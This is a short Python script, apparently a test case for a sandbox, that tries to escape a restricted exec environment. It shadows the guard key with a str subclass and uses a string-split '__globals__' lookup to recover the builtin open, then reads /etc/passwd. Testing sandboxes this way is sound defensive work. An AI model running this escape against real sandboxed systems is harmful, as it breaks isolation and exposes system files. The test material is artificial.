# tries: exec in a dict with a guard under a str of a class of its own
# class: shadowing
# stops: 1 2 3 4
import fractions


def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(function):
    space = getattr(function, "__glo" + "bals__")
    print("REACHED")
    return space["__builtins__"]["open"]


def guard(receiver, name=None):
    print("REACHED")
    return receiver


class Name(str):
    pass


space = {"p": fractions.Fraction.numerator, Name("_read_"): guard}
exec("found = p.fget", space)
use(dig(space["found"]))
